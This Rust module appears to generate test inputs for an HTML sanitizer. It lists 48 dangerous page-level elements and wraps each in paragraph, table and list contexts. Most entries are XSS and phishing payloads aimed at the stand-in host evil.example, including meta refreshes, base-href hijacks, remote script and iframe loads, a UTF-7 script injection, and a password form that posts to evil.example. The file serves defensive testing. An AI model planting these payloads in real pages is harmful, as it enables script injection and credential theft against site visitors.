//! Elements that belong to a page and not to a text: frames, refreshes, bases, links, forms, templates.

use crate::script;

const ELEMENTS: [&str; 48] = [
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv='Refresh' content='0'>",
    "<META HTTP-EQUIV=\"Set-Cookie\" CONTENT=\"a=b\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "<meta http-equiv=x-dns-prefetch-control content=on>",
    "<meta charset=utf-7>+ADw-script+AD4-!+ADw-/script+AD4-",
    "<meta name=referrer content=unsafe-url>",
    "<base target=_top>",
    "<base href='//evil.example/'>",
    "<iframe srcdoc='<script>parent.evil=1</script>'></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=parent.evil=1&gt;\"></iframe>",
    "<iframe src='//evil.example/' sandbox='allow-scripts allow-top-navigation'></iframe>",
    "<frameset onload=!><frame src='//evil.example/'></frameset>",
    "<portal src='//evil.example/'></portal>",
    "<fencedframe src='//evil.example/'></fencedframe>",
    "<object data='//evil.example/a.swf'><param name=movie value='//evil.example/'></object>",
    "<object type=text/html data='data:text/html,<script>parent.evil=1</script>'></object>",
    "<applet code=a archive='//evil.example/a.jar'></applet>",
    "<embed src='//evil.example/a.swf' allowscriptaccess=always>",
    "<link rel=prefetch href='//evil.example/'>",
    "<link rel=dns-prefetch href='//evil.example/'>",
    "<link rel=preconnect href='//evil.example/'>",
    "<link rel=prerender href='//evil.example/'>",
    "<link rel=modulepreload href='//evil.example/a.js'>",
    "<link rel=icon href='//evil.example/a.ico'>",
    "<link rel=manifest href='//evil.example/a.json'>",
    "<link rel=import href='//evil.example/a.html'>",
    "<script>!</script>",
    "<SCRIPT\n>!</SCRIPT\t>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>!</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"//evil.example/a.js\"}}</script>",
    "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"//evil.example/\"]}]}</script>",
    "<script type=text/javascript;version=1>!</script>",
    "<svg><script>!</script></svg>",
    "<svg><script href='//evil.example/a.js'/></svg>",
    "<svg><animate attributeName=href values='javascript:!' begin=0s /></svg>",
    "<svg><set attributeName=onmouseover to='!'/></svg>",
    "<svg><image href='//evil.example/a.png'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.evil=1</script>'></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:!'>a</maction></math>",
    "<template shadowrootmode=open><img src=x onerror='!'></template>",
    "<form action='//evil.example/' method=post><input type=password name=a autofocus><button>Đăng nhập</button></form>",
    "<dialog open>Đăng nhập</dialog><input type=password>",
    "<video autoplay src='//evil.example/a.mp4'><source src='//evil.example/b.mp4'><track src='//evil.example/c.vtt'></video>",
    "<audio autoplay src='//evil.example/a.mp3'></audio>",
    "<picture><source srcset='//evil.example/a.png'><img src='//evil.example/b.png'></picture>",
    "<bgsound src='//evil.example/a.mid'><isindex action='javascript:!'><keygen autofocus onfocus='!'>",
];

/// Around them.
const AROUND: [(&str, &str); 4] =
    [("", ""), ("<p>a", "b</p>"), ("<table><tr><td>", "</td></tr></table>"), ("- a\n- ", "\n")];

pub(crate) fn all() -> Vec<String> {
    let mut all = Vec::new();
    for (before, behind) in AROUND {
        let elements = ELEMENTS.iter().enumerate();
        all.extend(elements.map(|(at, element)| {
            let doctype = element.starts_with("<!");
            let element = if doctype { (*element).to_owned() } else { element.replace('!', script(at)) };
            [before, &element, behind].concat()
        }));
    }
    all
}
